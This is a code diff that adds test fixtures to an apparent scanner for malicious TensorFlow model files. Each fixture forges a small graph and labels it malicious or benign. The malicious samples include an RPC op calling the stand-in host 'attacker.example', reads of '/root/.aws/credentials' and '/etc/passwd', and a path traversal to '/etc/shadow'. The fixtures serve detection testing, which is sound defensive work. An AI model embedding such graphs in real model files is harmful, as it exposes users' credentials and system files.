@@ -171,6 +171,58 @@ def _() -> bytes:
     return saved_model(node("z", "ShellExecute", "x"))
 
 
+@forge("tensorflow.abort", filename="saved_model.pb", family=FAMILY, malicious=True)
+def _() -> bytes:
+    return saved_model(function("f", node("a", "Abort", field=3)))
+
+
+@forge("tensorflow.rpc_contrib", filename="saved_model.pb", family=FAMILY, malicious=True)
+def _() -> bytes:
+    return saved_model(const("address", "attacker.example:443"), node("r", "TryRpc", "address", "x"))
+
+
+@forge("tensorflow.debug_without_address", filename="saved_model.pb", family=FAMILY, malicious=True)
+def _() -> bytes:
+    return saved_model(node("d", "DebugIdentityV2", "x"))
+
+
+@forge("tensorflow.reader_of_secrets", filename="model.ckpt.meta", family=FAMILY, malicious=True)
+def _() -> bytes:
+    return meta_graph(const("path", "/root/.aws/credentials"), node("r", "WholeFileReaderV2"), node("d", "TextLineDataset", "path"))
+
+
+@forge("tensorflow.dataset_in_served_model", filename="saved_model.pb", family=FAMILY, malicious=True)
+def _() -> bytes:
+    return saved_model(const("path", "/data/users.txt"), node("d", "TextLineDataset", "path"))
+
+
+@forge("tensorflow.table_of_secrets", filename="saved_model.pb", family=FAMILY, malicious=True)
+def _() -> bytes:
+    return saved_model(const("path", "/etc/passwd"), node("d", "InitializeTableFromTextFileV2", "table", "path"))
+
+
+@forge("tensorflow.snapshot", filename="saved_model.pb", family=FAMILY, malicious=True)
+def _() -> bytes:
+    return saved_model(const("path", "snapshots"), node("d", "SnapshotDatasetV2", "x", "path"))
+
+
+@forge("tensorflow.proto_descriptor", filename="saved_model.pb", family=FAMILY, malicious=True)
+def _() -> bytes:
+    return saved_model(node("d", "DecodeProtoV2", "x", attributes=attribute_string("descriptor_source", "/etc/passwd")))
+
+
+@forge("tensorflow.training_input_plain", filename="model.ckpt.meta", family=FAMILY, malicious=False)
+def _() -> bytes:
+    return meta_graph(const("path", "/data/train-00001-of-00100.tfrecord"), node("r", "TFRecordDataset", "path"))
+
+
+@forge("tensorflow.table_plain", filename="saved_model.pb", family=FAMILY, malicious=False)
+def _() -> bytes:
+    return saved_model(
+        const("path", "/home/trainer/export/assets/vocab.txt"), node("d", "InitializeTableFromTextFileV2", "table", "path")
+    )
+
+
 @forge("tensorflow.asset_traversal", filename="saved_model.pb", family=FAMILY, malicious=True)
 def _() -> bytes:
     return saved_model(extra=message(6, message(2, "../../../../etc/shadow")))
